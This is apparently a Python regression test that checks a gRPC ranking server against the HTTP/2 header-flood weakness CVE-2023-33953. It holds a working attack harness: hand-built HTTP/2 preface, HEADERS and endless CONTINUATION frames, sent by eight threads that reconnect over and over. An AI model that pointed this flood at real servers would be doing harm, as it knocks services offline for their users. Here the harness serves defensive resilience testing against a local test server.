"""Strangers flood a server with headers that have no end (CVE-2023-33953).

Eight connections, each begun anew as soon as it is cut. The real program, and
the processor time that it really takes.
"""

import contextlib
import os
import socket
import statistics
import struct
import threading
import time
import unittest

import grpc

import reflected
import server_process

ATTACKERS = 8
# Long enough for several floods of every attacker.
SECONDS = 4.0


def frame(kind, flags, stream, payload):
    return struct.pack('>I', len(payload))[1:] + bytes(
        [kind, flags]) + struct.pack('>I', stream) + payload


# The preface, SETTINGS, and a literal of 8,000,000 bytes.
HELLO = (b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b'') +
         frame(1, 0, 1, b'\x00\x04evil\x7f\x81\xa4\xe8\x03'))
PIECES = frame(9, 0, 1, b'a' * 16_000) * 8


class Flood:
    """Attackers, from their making to their stop()."""

    def __init__(self, address):
        host, port = address.split(':')
        self._address = host, int(port)
        self._stop = threading.Event()
        self.bytes_taken = []  # by a connection, until it was cut
        self._threads = [threading.Thread(target=self._attack)
                         for _ in range(ATTACKERS)]
        for thread in self._threads:
            thread.start()

    def stop(self):
        self._stop.set()
        for thread in self._threads:
            thread.join()

    def _attack(self):
        while not self._stop.wait(0.02):
            with contextlib.suppress(OSError), socket.create_connection(
                    self._address, timeout=5) as connection:
                self._flood(connection)

    def _flood(self, connection):
        sent = 0
        try:
            connection.sendall(HELLO)
            while sent < 8_000_000 and not self._stop.is_set():
                connection.sendall(PIECES)
                sent += len(PIECES)
            # It goes on burning, as long as it is there.
            while not self._stop.wait(0.05):
                if connection.recv(65536) == b'':
                    return
        finally:
            self.bytes_taken.append(sent)


def processor_seconds(process):
    with open(f'/proc/{process.pid}/stat', encoding='utf8') as stat:
        fields = stat.read().rsplit(')', 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf('SC_CLK_TCK')


def resident_mib(process):
    with open(f'/proc/{process.pid}/status', encoding='utf8') as status:
        for line in status:
            if line.startswith('VmRSS'):
                return int(line.split()[1]) / 1024
    raise AssertionError('no VmRSS')


class HeaderFlood(unittest.TestCase):

    def setUp(self):
        context = server_process.serving()
        self.server = context.__enter__()
        self.addCleanup(context.__exit__, None, None, None)
        self.channel = grpc.insecure_channel(
            self.server.address, [('grpc.use_local_subchannel_pool', 1)])
        self.addCleanup(self.channel.close)

    def health_seconds(self):
        """How long a new connection's check takes."""
        begin = time.monotonic()
        with grpc.insecure_channel(
                self.server.address,
                [('grpc.use_local_subchannel_pool', 1)]) as channel:
            reply = channel.unary_unary('/grpc.health.v1.Health/Check')(
                b'', timeout=20, wait_for_ready=True)
        self.assertEqual(reply, b'\x08\x01')
        return time.monotonic() - begin

    def processor_seconds_of_a_ranking(self):
        request, rank = reflected.Services(self.channel).unary(
            'qlarank.v1.RankService', 'Rank')
        message = request(user_id='ann', item_ids=[1, 2, 3])
        costs = []
        for _ in range(20):
            before = processor_seconds(self.server.process)
            for _ in range(20):
                rank(message, timeout=20)
            costs.append(processor_seconds(self.server.process) - before)
        return statistics.mean(costs) / 20

    def test_nobody_notices_a_flood(self):
        memory_before = resident_mib(self.server.process)
        alone = self.processor_seconds_of_a_ranking()

        flood = Flood(self.server.address)
        time.sleep(1)
        waits = [self.health_seconds() for _ in range(10)]
        before = processor_seconds(self.server.process)
        time.sleep(SECONDS)
        burnt = processor_seconds(self.server.process) - before
        request, rank = reflected.Services(self.channel).unary(
            'qlarank.v1.RankService', 'Rank')
        rank(request(user_id='ann', item_ids=[1, 2, 3]), timeout=20)
        memory = resident_mib(self.server.process)
        flood.stop()

        time.sleep(1)
        after = processor_seconds(self.server.process)
        time.sleep(2)
        rest = processor_seconds(self.server.process) - after

        print(f'{len(flood.bytes_taken)} floods; a check took '
              f'{max(waits):.3f} s at most, they took '
              f'{burnt / SECONDS:.3f} of a core, {rest / 2:.3f} when they had '
              f'ended; resident memory {memory_before:.0f} -> {memory:.0f} '
              f'MiB; a ranking costs {alone * 1000:.2f} ms')
        self.assertGreater(len(flood.bytes_taken), 3 * ATTACKERS)
        # What the sockets hold, not what was read.
        self.assertLess(statistics.median(flood.bytes_taken), 6_000_000)
        self.assertLess(max(waits), 1.0)
        # Of all processors, which is what rankings can lose by it.
        self.assertLess(burnt / SECONDS / os.cpu_count(), 0.2)
        self.assertLess(rest / 2, 0.1)
        self.assertLess(memory - memory_before, 64)
        cut = self.server.metric(
            'qlarank_connections_cut_total{reason="header_block"}')
        self.assertGreaterEqual(cut, len(flood.bytes_taken) - ATTACKERS)


if __name__ == '__main__':
    unittest.main()
